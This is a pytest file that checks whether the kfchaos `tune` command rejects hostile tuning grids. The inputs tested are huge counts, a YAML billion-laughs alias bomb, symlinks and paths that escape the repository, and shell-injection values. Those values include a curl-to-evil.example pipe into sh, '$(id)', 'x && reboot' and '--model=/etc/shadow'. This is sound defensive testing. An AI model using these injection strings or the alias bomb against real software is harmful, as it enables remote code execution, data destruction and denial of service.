"""A hostile tuning grid through the real `kfchaos tune` (issue 46, class 3): huge counts, an alias bomb, values that
would reach a command line as flags or shell syntax, and files outside the repository that the compiled sweep would
carry. Each is refused before anything runs (exit 3, no run folder, no pipeline written), by file, line and field,
within loose bounds of time and memory (a busy two-core machine)."""

from __future__ import annotations

import ast
import json
import shutil
import time
import tracemalloc
from pathlib import Path

import pytest
import yaml

from kfchaos.cli import main
from kfchaos.demo.runner.localtune import DEMO_TUNE_EXPERIMENT
from kfchaos.tune.grid import MAX_CONFIGURATIONS, MAX_SETTINGS, value_problem
from kfchaos.yamlsource import MAX_BYTES, MAX_NODES
from tests.conftest import EXPERIMENTS, ROOT

HEAD = """\
apiVersion: kfchaos.io/v1alpha1
kind: TuneGrid
metadata: {name: hostile}
spec:
  configurations:
"""
# Loose: a refusal parses at most a megabyte and walks at most MAX_NODES values.
SECONDS = 20.0
PEAK_BYTES = 96 << 20


def _refused(tmp_path: Path, grid_text: str, capsys: pytest.CaptureFixture[str], *, local: bool = True) -> str:
    """`kfchaos tune` on the grid: exit 3, nothing run or written, the error text (stderr)."""
    grid = tmp_path / "grid.yaml"
    grid.write_text(grid_text)
    runs, out = tmp_path / "runs", tmp_path / "sweep.yaml"
    mode = ["--local", "--runs", str(runs)] if local else ["--output", str(out)]
    experiment = DEMO_TUNE_EXPERIMENT if local else EXPERIMENTS / "vllm-long-context-burst.yaml"
    capsys.readouterr()
    started = time.monotonic()
    assert main(["tune", str(experiment), "--grid", str(grid), *mode]) == 3
    assert time.monotonic() - started < SECONDS
    assert not runs.exists() and not out.exists()
    return capsys.readouterr().err


def _line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if needle in line)


# ---------------------------------------------------------------- huge counts


def test_ten_thousand_configurations_are_refused_by_the_count(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    text = HEAD + "".join(f"    - {{name: c{i}, args: {{max-num-seqs: {i + 1}}}}}\n" for i in range(10_000))
    assert len(text) < MAX_BYTES
    err = _refused(tmp_path, text, capsys)
    assert f"grid.yaml:5: spec.configurations: List should have at most {MAX_CONFIGURATIONS} items" in err
    assert len(err.splitlines()) < 5  # one problem, not ten thousand


def test_a_configuration_setting_hundreds_of_flags_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    args = ", ".join(f"flag-{i}: {i}" for i in range(500))
    err = _refused(tmp_path, HEAD + f"    - name: many\n      args: {{{args}}}\n", capsys)
    assert f"grid.yaml:7: spec.configurations[0].args: Dictionary should have at most {MAX_SETTINGS} items" in err


@pytest.mark.parametrize(
    ("value", "says"),
    [("1" + "0" * 30, "out of range"), (".inf", "not a finite number"), (".nan", "not a finite number")],
)
def test_numbers_past_any_flag_are_refused_naming_the_flag(
    value: str, says: str, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    err = _refused(tmp_path, HEAD + f"    - name: big\n      args:\n        max-num-seqs: {value}\n", capsys)
    assert "grid.yaml:8: spec.configurations[0].args.max-num-seqs:" in err and says in err


def test_an_infinite_cost_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    err = _refused(tmp_path, HEAD + "    - name: free\n      cost: .inf\n", capsys)
    assert "grid.yaml:7: spec.configurations[0].cost: Input should be a finite number" in err


def test_a_grid_over_a_megabyte_is_refused_unread(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    err = _refused(tmp_path, HEAD + "#" * (MAX_BYTES + 10) + "\n", capsys)
    assert f"grid.yaml:1: (document): file too large (over {MAX_BYTES} bytes)" in err


# ---------------------------------------------------------------- YAML alias bomb


def _bomb(where: str) -> str:
    """Billion laughs under `where`: nine levels of ten aliases each, 10^9 values once expanded."""
    levels = ["        a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"        a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 10)]
    return f"{HEAD}    - name: bomb\n      {where}:\n" + "\n".join(levels) + "\n"


@pytest.mark.parametrize("where", ["args", "env"])
def test_an_alias_bomb_stops_at_the_experiments_bound(
    where: str, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    tracemalloc.start()
    try:
        err = _refused(tmp_path, _bomb(where), capsys)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"grid.yaml:1: (document): document too large (over {MAX_NODES} values, aliases expanded)" in err
    assert peak < PEAK_BYTES, peak


def test_aliases_within_the_bound_are_read_as_written(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """Not every alias is an attack: a shared block of flags within the bound still reaches the value checks."""
    text = HEAD + (
        "    - name: one\n      args: &shared {max-num-seqs: 64, tokenizer: --trust-remote-code}\n"
        "    - name: two\n      args: *shared\n"
    )
    err = _refused(tmp_path, text, capsys)
    assert "grid.yaml:7: spec.configurations[0].args.tokenizer: '--trust-remote-code' starts with '-'" in err
    assert "spec.configurations[1].args.tokenizer: '--trust-remote-code' starts with '-'" in err


# ---------------------------------------------------------------- flags and shell syntax

SHELL = [
    '"; curl http://evil.example | sh; echo "',
    "$(id)",
    "`id`",
    "a b",
    "x && reboot",
    "/models/x > /etc/passwd",
    "'quoted'",
    "${HOME}",
    "128\n--enable-lora",
    "x\u202e",
    "",
]


@pytest.mark.parametrize("value", SHELL)
def test_a_flag_value_with_shell_syntax_is_refused_by_line_and_field(
    value: str, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    text = HEAD + f"    - name: evil\n      args:\n        max-num-seqs: 64\n        tokenizer: {json.dumps(value)}\n"
    assert yaml.safe_load(text)["spec"]["configurations"][0]["args"]["tokenizer"] == value
    err = _refused(tmp_path, text, capsys)
    line = _line_of(text, "tokenizer:")
    assert f"grid.yaml:{line}: spec.configurations[0].args.tokenizer: " in err
    assert "is not one plain word" in err
    assert "\n--enable-lora" not in err and "\u202e" not in err  # shown escaped, on one line


@pytest.mark.parametrize("value", ["--trust-remote-code", "-1x", "--model=/etc/shadow"])
def test_a_flag_value_that_is_itself_a_flag_is_refused(
    value: str, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    err = _refused(tmp_path, HEAD + f"    - name: evil\n      args:\n        tokenizer: '{value}'\n", capsys)
    assert f"grid.yaml:8: spec.configurations[0].args.tokenizer: {value!r} starts with '-'" in err


@pytest.mark.parametrize("name", ['"max-num-seqs\\n"', '"--max-num-seqs"', '"a;id"'])
def test_a_flag_name_that_is_no_flag_name_is_refused(name: str, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    err = _refused(tmp_path, HEAD + f"    - name: evil\n      args:\n        {name}: 1\n", capsys)
    assert "grid.yaml:7: spec.configurations[0].args: " in err and "is not a flag name" in err


def test_an_environment_value_with_shell_syntax_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    text = HEAD + "    - name: evil\n      env:\n        OK: expandable_segments:True,max_split_size_mb:512\n"
    text += "        HF_HOME: $(curl evil.example)\n"
    err = _refused(tmp_path, text, capsys, local=False)
    assert "grid.yaml:9: spec.configurations[0].env.HF_HOME: '$(curl evil.example)' is not one plain word" in err
    assert "env.OK" not in err  # a real PYTORCH_CUDA_ALLOC_CONF-style value passes


def test_plain_values_pass_the_rule() -> None:
    for value in ("meta-llama/Llama-3.1-8B-Instruct", "fp8", "0.85", "/models/llama", "auto", "a=b,c:d", "-1"):
        assert value_problem(value, flag=False) is None, value
    assert value_problem("-1", flag=True) is not None


def test_no_kfchaos_process_is_started_through_a_shell() -> None:
    """What a grid's values may reach locally is the demo server's argv: every subprocess call in the package takes
    a list, never `shell=True` (a string through /bin/sh would read a value's syntax)."""
    calls = []
    for path in (ROOT / "src" / "kfchaos").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Call):
                for keyword in node.keywords:
                    if keyword.arg == "shell" and not (
                        isinstance(keyword.value, ast.Constant) and keyword.value.value is False
                    ):
                        calls.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert calls == []


# ---------------------------------------------------------------- files outside the repository

CLUSTER_GRID = (
    HEAD
    + """\
    - name: seqs-256
      args: {max-num-seqs: 256}
      target:
        endpoint: http://llama-seqs-256.llm-serving.svc:8000
        selector: {labels: {app: llama, tune: seqs-256}}
"""
)
SECRET = "TOPSECRET-do-not-embed"


def _repository(tmp_path: Path) -> tuple[Path, Path, str]:
    """A repository holding the cluster experiment, its baseline beside it; the experiment file's text."""
    root = tmp_path / "repo"
    (root / "experiments").mkdir(parents=True)
    (root / "baselines").mkdir()
    source = EXPERIMENTS / "vllm-long-context-burst.yaml"
    shutil.copy(source, root / "experiments" / source.name)
    shutil.copy(ROOT / "baselines" / source.name, root / "baselines" / source.name)
    return root, root / "experiments" / source.name, source.read_text()


def _compile(root: Path, experiment: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, Path]:
    grid = root / "grid.yaml"
    grid.write_text(CLUSTER_GRID)
    out = root / "sweep.yaml"
    capsys.readouterr()
    code = main(["tune", str(experiment), "--grid", str(grid), "--output", str(out), "--root", str(root)])
    return code, capsys.readouterr().err, out


def test_a_baseline_outside_the_repository_is_refused_and_never_embedded(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    root, experiment, text = _repository(tmp_path)
    secret = tmp_path / "id_ed25519"
    secret.write_text(yaml.safe_dump({"note": SECRET}))
    experiment.write_text(text.replace("file: ../baselines/vllm-long-context-burst.yaml", f"file: {secret}"))
    code, err, out = _compile(root, experiment, capsys)
    assert code == 3
    line = _line_of(experiment.read_text(), f"file: {secret}")
    assert f"{experiment}:{line}: spec.baseline.file: the baseline {secret} lies outside the repository" in err
    assert not out.exists() and SECRET not in err


def test_a_baseline_linked_out_of_the_repository_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    root, experiment, _ = _repository(tmp_path)
    secret = tmp_path / "elsewhere.yaml"
    secret.write_text(yaml.safe_dump({"note": SECRET}))
    planted = root / "baselines" / "vllm-long-context-burst.yaml"
    planted.unlink()
    planted.symlink_to(secret)
    code, err, out = _compile(root, experiment, capsys)
    assert code == 3 and "spec.baseline.file: the baseline" in err and "lies outside the repository" in err
    assert not out.exists()


def test_an_experiment_outside_the_repository_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    root, _, _ = _repository(tmp_path)
    code, err, out = _compile(root, EXPERIMENTS / "vllm-long-context-burst.yaml", capsys)
    assert code == 3 and "the experiment" in err and f"lies outside the repository {root.resolve()}" in err
    assert not out.exists()


def test_the_same_sweep_inside_the_repository_compiles(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    root, experiment, _ = _repository(tmp_path)
    code, err, out = _compile(root, experiment, capsys)
    assert code == 0, err
    assert out.is_file()
